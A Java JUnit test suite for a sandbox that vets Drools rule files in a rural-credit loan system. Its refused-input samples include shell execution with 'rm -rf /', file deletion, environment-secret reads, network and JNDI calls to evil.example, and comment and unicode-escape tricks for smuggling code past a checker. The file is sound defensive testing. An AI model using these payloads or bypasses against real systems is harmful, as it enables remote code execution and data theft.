package cn.ruralcredit.loanfactory.rules.sandbox;

import cn.ruralcredit.loanfactory.rules.engine.RuleSetSource;
import cn.ruralcredit.loanfactory.rules.seed.SeedProduct;
import cn.ruralcredit.loanfactory.rules.seed.SeedRuleSets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.io.IOException;
import java.lang.reflect.Modifier;
import java.lang.reflect.RecordComponent;
import java.net.URISyntaxException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Each refused construct has its own test, placed in one extra file {@value #EXTRA} added to the
 * FUNONG seed rule set: the file starts with {@link #HEADER} (lines 1-2), and a consequence built
 * by {@link #then} puts its statement on line 8 from column 5. Every test asserts the complete list
 * of violations, so a construct reported twice, or in the wrong place, fails.
 */
class RuleSandboxTest {
    private static final String EXTRA = "TEST/extra.drl";
    private static final String HEADER = """
            package cn.ruralcredit.loanfactory.rules.test;
            import cn.ruralcredit.loanfactory.rules.model.*;
            """;
    private final RuleSandbox sandbox = new RuleSandbox();

    /** Where a violation is expected in {@value #EXTRA}. */
    private record At(int line, int column, String construct) {
    }

    /** FUNONG's seed rule set plus {@value #EXTRA}: {@link #HEADER} followed by {@code text} from line 3. */
    private static RuleSetSource funongWith(String text) {
        Map<String, String> files = new HashMap<>(SeedRuleSets.ruleSet("FUNONG").files());
        files.put(EXTRA, HEADER + text);
        return new RuleSetSource(files);
    }

    /** One rule (lines 3-9) whose consequence is {@code statement}, on line 8 from column 5. */
    private static String then(String statement) {
        return """
                rule "TEST: probe"
                    ruleflow-group "eligibility"
                when
                    $a : Applicant()
                then
                    %s
                end
                """.formatted(statement);
    }

    private List<SandboxViolation> check(String extraText) {
        return sandbox.check(funongWith(extraText));
    }

    private void assertRefused(String extraText, At... expected) {
        List<SandboxViolation> found = check(extraText);
        assertEquals(List.of(expected), found.stream().map(v -> new At(v.line(), v.column(), v.construct())).toList(),
                () -> found.toString());
        found.forEach(v -> assertEquals(EXTRA, v.file(), v.toString()));
    }

    private void assertAccepted(String extraText) {
        assertEquals(List.of(), check(extraText));
    }

    private static At at(int line, int column, String construct) {
        return new At(line, column, construct);
    }

    // --- what legitimate rule sets do ---

    static Stream<String> seedProducts() {
        return SeedRuleSets.PRODUCTS.stream().map(SeedProduct::code);
    }

    @ParameterizedTest
    @MethodSource("seedProducts")
    void shouldAcceptEverySeedRuleSet(String productCode) {
        assertEquals(List.of(), sandbox.check(SeedRuleSets.ruleSet(productCode)));
    }

    @Test
    void shouldHaveSixSeedRuleSetsToAccept() {
        assertEquals(6, seedProducts().count());
    }

    @Test
    void shouldNotRefuseWhatCommentsAndStringsSay() {
        assertAccepted("""
                // System.exit( 0 ) in a comment
                /* Runtime.getRuntime().exec( "rm -rf /" ); while ( true ) {} */
                rule "System check: Runtime, Thread and java.io.File in a rule name"
                    ruleflow-group "eligibility"
                when
                    Applicant( blacklisted )
                then
                    insert( new Decline( "SYSTEM", "System.exit( 0 ); for ( ;; ) {}" ) ); // Thread.sleep
                    insert( new Decline( "CHAR", 'java.lang.System' ) );
                end
                """);
    }

    @Test
    void shouldAcceptTheAllowedImports() {
        assertAccepted("""
                import cn.ruralcredit.loanfactory.rules.model.Applicant;
                import java.math.BigDecimal;
                import java.math.RoundingMode;
                import java.time.LocalDate;
                import java.time.temporal.ChronoUnit;
                import java.util.List;
                import java.util.Map;
                import java.util.Map.Entry;
                import java.util.Collections;
                import static java.util.Collections.emptyList;
                import function cn.ruralcredit.loanfactory.rules.model.Evaluation.completedYears;
                """);
    }

    @Test
    void shouldAcceptGlobalsOfAllowedTypes() {
        assertAccepted("""
                import java.util.List;
                global List seen;
                global java.math.BigDecimal threshold;
                global Applicant someone;
                global java.util.Map<Applicant, java.time.LocalDate> dates;
                """);
    }

    @Test
    void shouldAcceptWhatConsequencesLegitimatelyDo() {
        assertAccepted(then("""
                Evaluation e = new Evaluation( java.time.LocalDate.of( 2025, 1, 1 ), java.time.LocalDate.of( 1980, 1, 1 ), java.math.BigDecimal.ONE );
                    insert( e );
                    insertLogical( new ScorePart( "x", 1 ) );
                    modify( $a ) { }
                    update( $a );
                    delete( e );
                    retract( e );
                    drools.insert( new ScorePart( "y", 2 ) );
                    String name = drools.getRule().getName();
                    java.util.List<String> names = java.util.List.of( name, drools.getMatch().toString() );
                    java.math.BigDecimal total = java.math.BigDecimal.ZERO.add( new java.math.BigDecimal( "1.5e3" ) );
                    long days = java.time.temporal.ChronoUnit.DAYS.between( e.getBirthDate(), e.getAsOfDate() );
                    int[] counts = new int[] { 1, 2, 3 };"""));
    }

    @Test
    void shouldAcceptEvalAndOtherDrlConditions() {
        assertAccepted("""
                rule "TEST: eval, from, accumulate and a named consequence"
                    ruleflow-group "scoring"
                    salience 10
                    no-loop true
                when
                    $a : Applicant( creditHistory.overdueCount24m == 0 )
                    eval( $a.getNetIncome().compareTo( java.math.BigDecimal.ZERO ) > 0 )
                    $parts : java.util.List() from collect( ScorePart() )
                    accumulate( ScorePart( $p : points ); $score : sum( $p ) )
                    if ( $score > 50 ) do[high]
                then
                    insert( new ScorePart( "eval", 1 ) );
                then[high]
                    insert( new ScorePart( "high", 1 ) );
                end
                declare enum Band LOW, HIGH; end
                declare Note
                    text : String
                end
                """);
    }

    @Test
    void shouldAcceptEveryPublicMemberOfTheFactModel() throws IOException, URISyntaxException {
        Set<String> names = new TreeSet<>();
        for (Class<?> type : factModelClasses()) {
            names.add(type.getSimpleName());
            for (var m : type.getMethods()) {
                if (m.getDeclaringClass() == Object.class || m.getDeclaringClass() == Enum.class) continue;
                names.add(m.getName());
                String property = m.getName().replaceFirst("^(get|is)(?=[A-Z])", "");
                if (!property.equals(m.getName())) names.add(Character.toLowerCase(property.charAt(0)) + property.substring(1));
            }
            for (var f : type.getFields()) names.add(f.getName());
            if (type.isRecord()) for (RecordComponent c : type.getRecordComponents()) names.add(c.getName());
            if (type.isEnum()) for (Object c : type.getEnumConstants()) names.add(((Enum<?>) c).name());
        }
        assertTrue(names.size() > 50, names.toString());
        String uses = names.stream().map(n -> "$a." + n + "( );").collect(Collectors.joining("\n    "));
        assertAccepted(then(uses));
    }

    private static List<Class<?>> factModelClasses() throws IOException, URISyntaxException {
        Path dir = mainClasses().resolve(RuleSandbox.FACT_MODEL_PACKAGE.replace('.', '/'));
        try (Stream<Path> files = Files.list(dir)) {
            return files.map(p -> p.getFileName().toString())
                    .filter(n -> n.endsWith(".class") && !n.contains("$"))
                    .<Class<?>>map(n -> load(RuleSandbox.FACT_MODEL_PACKAGE + "." + n.substring(0, n.length() - 6)))
                    .filter(c -> Modifier.isPublic(c.getModifiers()))
                    .toList();
        }
    }

    /** product-rules' own classes (target/classes), not the test classes. */
    private static Path mainClasses() throws URISyntaxException {
        return Path.of(RuleSandbox.class.getProtectionDomain().getCodeSource().getLocation().toURI());
    }

    private static Class<?> load(String name) {
        try {
            return Class.forName(name);
        } catch (ClassNotFoundException e) {
            throw new IllegalStateException(e);
        }
    }

    @Test
    void shouldReserveEveryCodePackageOfProductRules() throws IOException, URISyntaxException {
        Path root = mainClasses().resolve("cn/ruralcredit/loanfactory/rules");
        try (Stream<Path> dirs = Files.list(root)) {
            Set<String> packages = dirs.filter(Files::isDirectory).map(p -> p.getFileName().toString())
                    .collect(Collectors.toCollection(TreeSet::new));
            assertEquals(new TreeSet<>(RuleSandbox.CODE_PACKAGES), packages);
        }
    }

    // --- the JVM, processes and threads ---

    @Test
    void shouldRefuseSystemExit() {
        assertRefused(then("System.exit( 0 );"), at(8, 5, "SYSTEM"));
    }

    @Test
    void shouldRefuseSystemEvenInACondition() {
        assertRefused("""
                rule "TEST: condition"
                when
                    Applicant( eval( System.getenv( "HOME" ) != null ) )
                then
                end
                """, at(5, 22, "SYSTEM"));
    }

    @Test
    void shouldRefuseRuntimeGetRuntime() {
        assertRefused(then("Runtime.getRuntime().exec( \"rm -rf /\" );"), at(8, 5, "RUNTIME"));
    }

    @Test
    void shouldRefuseNewProcessBuilder() {
        assertRefused(then("new ProcessBuilder( \"sh\" ).start();"), at(8, 9, "PROCESS"));
    }

    @Test
    void shouldRefuseNewThread() {
        assertRefused(then("new Thread( (Runnable) null ).start();"), at(8, 9, "THREAD"));
    }

    @Test
    void shouldRefuseThreadSleep() {
        assertRefused(then("Thread.sleep( 60000L );"), at(8, 5, "THREAD"));
    }

    @Test
    void shouldRefuseExecutors() {
        assertRefused(then("Executors.newSingleThreadExecutor();"), at(8, 5, "THREAD"));
    }

    @Test
    void shouldRefuseSynchronizedAndWait() {
        assertRefused(then("synchronized ( $a ) { $a.wait(); }"), at(8, 5, "THREAD"), at(8, 30, "THREAD"));
    }

    // --- reflection and class loading ---

    @Test
    void shouldRefuseClassForName() {
        assertRefused(then("Class.forName( \"java.lang.Runtime\" );"), at(8, 5, "CLASS_LOADING"));
    }

    @Test
    void shouldRefuseGetClassGetClassLoader() {
        assertRefused(then("$a.getClass().getClassLoader().loadClass( \"x\" );"),
                at(8, 8, "CLASS_LOADING"), at(8, 19, "CLASS_LOADING"), at(8, 36, "CLASS_LOADING"));
    }

    @Test
    void shouldRefuseAClassLiteral() {
        assertRefused(then("Object c = Applicant.class;"), at(8, 26, "CLASS_LOADING"));
    }

    @Test
    void shouldRefuseReflectionSetAccessibleAndGetDeclaredMethod() {
        assertRefused(then("$m.getDeclaredMethod( \"x\" ).setAccessible( true );"),
                at(8, 8, "REFLECTION"), at(8, 33, "REFLECTION"));
    }

    @Test
    void shouldRefuseMethodInvoke() {
        assertRefused(then("$method.invoke( null );"), at(8, 13, "REFLECTION"));
    }

    // --- files, network, JNDI, scripting ---

    @Test
    void shouldRefuseAQualifiedJavaIoFile() {
        assertRefused(then("new java.io.File( \"/etc/passwd\" ).delete();"), at(8, 9, "QUALIFIED_NAME"));
    }

    @Test
    void shouldRefuseFilesReadString() {
        assertRefused(then("String s = Files.readString( null );"), at(8, 16, "FILE_IO"));
    }

    @Test
    void shouldRefuseAQualifiedSocket() {
        assertRefused(then("new java.net.Socket( \"evil.example\", 80 );"), at(8, 9, "QUALIFIED_NAME"));
    }

    @Test
    void shouldRefuseASocket() {
        assertRefused(then("new Socket( \"evil.example\", 80 );"), at(8, 9, "NETWORK"));
    }

    @Test
    void shouldRefuseNewUrl() {
        assertRefused(then("new URL( \"http://evil.example\" ).openStream();"), at(8, 9, "NETWORK"), at(8, 38, "NETWORK"));
    }

    @Test
    void shouldRefuseAJndiLookup() {
        assertRefused(then("new InitialContext().lookup( \"ldap://evil.example/x\" );"), at(8, 9, "JNDI"), at(8, 26, "JNDI"));
    }

    @Test
    void shouldRefuseAScriptEngine() {
        assertRefused(then("new ScriptEngineManager().getEngineByName( \"js\" );"), at(8, 9, "SCRIPTING"));
    }

    // --- imports, globals, qualified names, packages ---

    @Test
    void shouldRefuseAnImportOfJavaIoFile() {
        assertRefused("import java.io.File;\n", at(3, 8, "IMPORT"));
        assertTrue(check("import java.io.File;\n").get(0).message().startsWith("import of `java.io.File` is refused."));
    }

    @Test
    void shouldRefuseAnImportOfJavaUtilConcurrent() {
        assertRefused("import java.util.concurrent.*;\n", at(3, 8, "IMPORT"));
    }

    @Test
    void shouldRefuseTheJavaUtilWildcard() {
        assertRefused("import java.util.*;\n", at(3, 8, "IMPORT"));
        assertTrue(check("import java.util.*;\n").get(0).message().contains("too broad"));
    }

    @Test
    void shouldRefuseJavaUtilTypesThatAreNotCollections() {
        assertRefused("""
                import java.util.Scanner;
                import java.util.function.Function;
                import java.util.stream.Stream;
                """, at(3, 8, "IMPORT"), at(4, 8, "IMPORT"), at(5, 8, "IMPORT"));
    }

    @Test
    void shouldRefuseAFunctionImportOfSystemExit() {
        assertRefused("import function java.lang.System.exit;\n", at(3, 17, "IMPORT"));
    }

    @Test
    void shouldRefuseAStaticImportOfTheEngine() {
        assertRefused("import static cn.ruralcredit.loanfactory.rules.engine.Stages.ORDER;\n", at(3, 15, "IMPORT"));
    }

    @Test
    void shouldRefuseAGlobalOfADisallowedType() {
        assertRefused("global java.util.concurrent.ExecutorService pool;\n", at(3, 8, "GLOBAL"));
    }

    @Test
    void shouldRefuseAGlobalWhoseTypeArgumentIsDisallowed() {
        assertRefused("global java.util.List<java.io.File> files;\n", at(3, 23, "GLOBAL"));
    }

    @Test
    void shouldRefuseAGlobalOfAJavaLangType() {
        assertRefused("global String name;\n", at(3, 8, "GLOBAL"));
    }

    @Test
    void shouldRefuseAFullyQualifiedSystemGetenv() {
        assertRefused(then("String secret = java.lang.System.getenv( \"DB_PASSWORD\" );"), at(8, 21, "QUALIFIED_NAME"));
        assertTrue(check(then("java.lang.System.getenv( \"X\" );")).get(0).message()
                .startsWith("the qualified name `java.lang.System.getenv` is refused"));
    }

    @Test
    void shouldRefuseAQualifiedNameSplitByCommentsAndSpaces() {
        assertRefused(then("java /* ... */ . lang . System.exit( 0 );"), at(8, 5, "QUALIFIED_NAME"));
    }

    @Test
    void shouldRefuseAQualifiedNameWithMvelNullSafeDots() {
        assertRefused(then("ch?.vorburger!.exec.ManagedProcess.class;"), at(8, 5, "QUALIFIED_NAME"));
    }

    @Test
    void shouldRefuseABinaryNameOfANestedClass() {
        assertRefused(then("Object v = Runtime$Version.parse( \"17\" );"), at(8, 16, "RUNTIME"));
    }

    @Test
    void shouldRefuseTheKieApiByQualifiedName() {
        assertRefused(then("org.kie.api.KieServices.Factory.get();"), at(8, 5, "QUALIFIED_NAME"));
    }

    @Test
    void shouldRefuseAPackageThatIsNotARulesPackage() {
        Map<String, String> files = new HashMap<>(SeedRuleSets.ruleSet("FUNONG").files());
        files.put(EXTRA, "package org.kie.api;\nrule \"x\" when then end\n");
        files.put("TEST/engine.drl", "package cn.ruralcredit.loanfactory.rules.engine;\n");
        List<SandboxViolation> found = sandbox.check(new RuleSetSource(files));
        assertEquals(List.of(
                        new At(1, 9, "PACKAGE"),
                        new At(1, 9, "PACKAGE")),
                found.stream().map(v -> new At(v.line(), v.column(), v.construct())).toList(), found.toString());
        assertEquals(List.of("TEST/engine.drl", EXTRA), found.stream().map(SandboxViolation::file).toList());
    }

    @Test
    void shouldRefuseAFileThatIsNotDrl() {
        Map<String, String> files = new HashMap<>(SeedRuleSets.ruleSet("FUNONG").files());
        files.put("META-INF/kmodule.xml", "<kmodule/>");
        files.put("TEST/../escape.drl", "");
        files.put("TEST/rules.dslr", "");
        List<SandboxViolation> found = sandbox.check(new RuleSetSource(files));
        assertEquals(List.of("META-INF/kmodule.xml", "TEST/../escape.drl", "TEST/rules.dslr"),
                found.stream().map(SandboxViolation::file).toList());
        found.forEach(v -> assertEquals(new At(0, 0, "FILE_NAME"), new At(v.line(), v.column(), v.construct())));
    }

    // --- loops, recursion, lambdas, local classes, timers ---

    @Test
    void shouldRefuseAWhileLoopInAConsequence() {
        assertRefused(then("while ( true ) { }"), at(8, 5, "LOOP"));
        assertTrue(check(then("while ( true ) { }")).get(0).message().contains("from, accumulate, collect"));
    }

    @Test
    void shouldRefuseAForLoopInAConsequence() {
        assertRefused(then("for ( int i = 0; i < 10; i++ ) { insert( new ScorePart( \"x\", i ) ); }"), at(8, 5, "LOOP"));
    }

    @Test
    void shouldRefuseADoLoopInAConsequence() {
        assertRefused(then("do { } while ( true );"), at(8, 5, "LOOP"), at(8, 12, "LOOP"));
    }

    @Test
    void shouldRefuseALoopInAFunction() {
        assertRefused("""
                function int count( java.util.List xs ) {
                    int n = 0;
                    for ( Object x : xs ) n++;
                    return n;
                }
                """, at(5, 5, "LOOP"));
    }

    @Test
    void shouldRefuseALoopInAccumulateCode() {
        assertRefused("""
                rule "TEST: custom accumulate"
                when
                    accumulate( ScorePart( $p : points ); $n : init( int n = 0; ), action( while ( true ) { n++; } ),
                                reverse( n--; ), result( n ) )
                then
                end
                """, at(5, 76, "LOOP"));
    }

    @Test
    void shouldRefuseAFunctionThatCallsItself() {
        assertRefused("""
                function int forever( int n ) {
                    return forever( n + 1 ) + forever( n + 2 );
                }
                """, at(4, 12, "RECURSION"), at(4, 31, "RECURSION"));
    }

    @Test
    void shouldRefuseFunctionsThatCallEachOther() {
        assertRefused("""
                function int ping( int n ) { return pong( n ); }
                function int pong( int n ) { return ping( n ); }
                function int helper( int n ) { return ping( n ); }
                """, at(3, 37, "RECURSION"), at(4, 37, "RECURSION"));
    }

    @Test
    void shouldAcceptAFunctionThatCallsAnotherFunction() {
        assertAccepted("""
                function java.math.BigDecimal half( java.math.BigDecimal x ) { return x.divide( java.math.BigDecimal.valueOf( 2 ) ); }
                function java.math.BigDecimal quarter( java.math.BigDecimal x ) { return half( half( x ) ); }
                """);
    }

    @Test
    void shouldRefuseALambdaAndAMethodReference() {
        assertRefused(then("java.util.List.of( 1 ).forEach( x -> insert( x ) ); java.util.List.of( 1 ).forEach( System.out::println );"),
                at(8, 39, "LAMBDA"), at(8, 89, "SYSTEM"), at(8, 99, "LAMBDA"));
    }

    @Test
    void shouldRefuseAnAnonymousClass() {
        assertRefused(then("java.util.Comparator c = new java.util.Comparator() { public int compare( Object a, Object b ) { return 0; } };"),
                at(8, 30, "LOCAL_DECLARATION"), at(8, 70, "LOCAL_DECLARATION"));
    }

    @Test
    void shouldRefuseALocalClass() {
        assertRefused("""
                function int f() {
                    class Local { int g() { return g(); } }
                    return new Local().g();
                }
                """, at(4, 5, "LOCAL_DECLARATION"), at(4, 23, "LOCAL_DECLARATION"));
    }

    @Test
    void shouldRefuseAMethodSmuggledOutOfAConsequence() {
        // the consequence is pasted into a generated method: closing it declares new methods
        assertRefused(then("} public static int boom( int n ) { return boom( n + 1 ); } public static void rest() {"),
                at(8, 25, "LOCAL_DECLARATION"), at(8, 84, "LOCAL_DECLARATION"));
    }

    @Test
    void shouldRefuseAMethodDeclaredWithThrows() {
        assertRefused(then("} static void boom() throws Exception { }"), at(8, 19, "LOCAL_DECLARATION"));
    }

    @Test
    void shouldRefuseAnMvelDefFunction() {
        assertRefused(then("def boom( n ) { boom( n ); }"), at(8, 9, "LOCAL_DECLARATION"));
    }

    @Test
    void shouldAcceptBlocksAfterStatementsAndModify() {
        assertAccepted(then("""
                if ( $a.isBlacklisted() ) { insert( new ScorePart( "a", 1 ) ); } else if ( true ) { }
                    switch ( 1 ) { default: break; }
                    try { update( $a ); } catch ( RuntimeException e ) { throw e; }
                    modify( $a ) { }"""));
    }

    @Test
    void shouldRefuseAFunctionThatCallsItselfThroughItsGeneratedClass() {
        assertRefused("""
                function int forever( int n ) {
                    return Forever.forever( n + 1 );
                }
                """, at(4, 20, "RECURSION"));
    }

    @Test
    void shouldRefuseTheGeneratedRuleClasses() {
        assertRefused("""
                function void callConsequence() {
                    Rule_TEST$u58$_probe1076751963.defaultConsequence( null );
                }
                """, at(4, 5, "KIE_RUNTIME"));
    }

    @Test
    void shouldRefuseATimerAttribute() {
        assertRefused("""
                rule "TEST: every second"
                    timer ( int: 0s 1s )
                when
                then
                end
                """, at(4, 5, "TIMER"));
    }

    @Test
    void shouldRefuseReadingTheClockInAConsequence() {
        assertRefused(then("LocalDate d = LocalDate.now();"), at(8, 29, "CLOCK"));
    }

    @Test
    void shouldRefuseADateEffectiveAttribute() {
        assertRefused("""
                rule "TEST: from new year"
                    date-effective "1-Jan-2027"
                when
                then
                end
                """, at(4, 5, "CLOCK"));
    }

    // --- reaching the engine ---

    @Test
    void shouldRefuseDroolsGetKieRuntime() {
        assertRefused(then("drools.getKieRuntime().insert( $a );"), at(8, 5, "KIE_RUNTIME"));
    }

    @Test
    void shouldRefuseDroolsGetWorkingMemory() {
        assertRefused(then("drools.getWorkingMemory();"), at(8, 5, "KIE_RUNTIME"));
    }

    @Test
    void shouldRefuseKcontext() {
        assertRefused(then("kcontext.getKieRuntime().insert( $a );"), at(8, 5, "KIE_RUNTIME"));
    }

    @Test
    void shouldRefuseHandingDroolsAway() {
        assertRefused(then("Object engine = drools;"), at(8, 21, "KIE_RUNTIME"));
    }

    // --- text that could read differently to the compiler ---

    @Test
    void shouldRefuseAUnicodeEscapeThatWouldEndAComment() {
        // javac reads \\u000a as a line break, so the call after it is code, not comment
        assertRefused(then("// \\u000a System.exit( 0 );"), at(8, 8, "UNICODE_ESCAPE"));
    }

    @Test
    void shouldRefuseAnInvisibleCharacterInsideAName() {
        assertRefused(then("Sys\u200Btem.exit( 0 );"), at(8, 5, "SYSTEM"), at(8, 8, "HIDDEN_CHARACTER"));
    }

    @Test
    void shouldRefuseACarriageReturnThatWouldEndAComment() {
        // a lone \r ends a // comment for javac: the call is read as code, and refused
        assertRefused(then("// note\rSystem.exit( 0 );"), at(9, 1, "SYSTEM"));
    }

    @Test
    void shouldRefuseAStringNotClosedOnItsLine() {
        assertRefused(then("String s = \"open"), at(8, 16, "SYNTAX"));
    }

    @Test
    void shouldRefuseAnUnclosedBlockComment() {
        assertRefused(then("/* System.exit( 0 );"), at(8, 5, "SYNTAX"));
    }

    @Test
    void shouldRefuseAHash() {
        assertRefused("# an old-style comment\n", at(3, 1, "SYNTAX"));
    }

    @Test
    void shouldRefuseATextBlock() {
        assertRefused(then("String s = \"\"\"\n    text\n    \"\"\";"), at(8, 16, "SYNTAX"));
    }

    @Test
    void shouldListEveryRefusedNameUnderOneOfTheDocumentedCodes() {
        Set<String> codes = Set.of("SYSTEM", "RUNTIME", "PROCESS", "THREAD", "REFLECTION", "CLASS_LOADING", "FILE_IO",
                "NETWORK", "JNDI", "SCRIPTING", "KIE_RUNTIME", "LOOP", "CLOCK");
        assertEquals(codes, Set.copyOf(RuleSandbox.refusedNames().values()));
    }
}
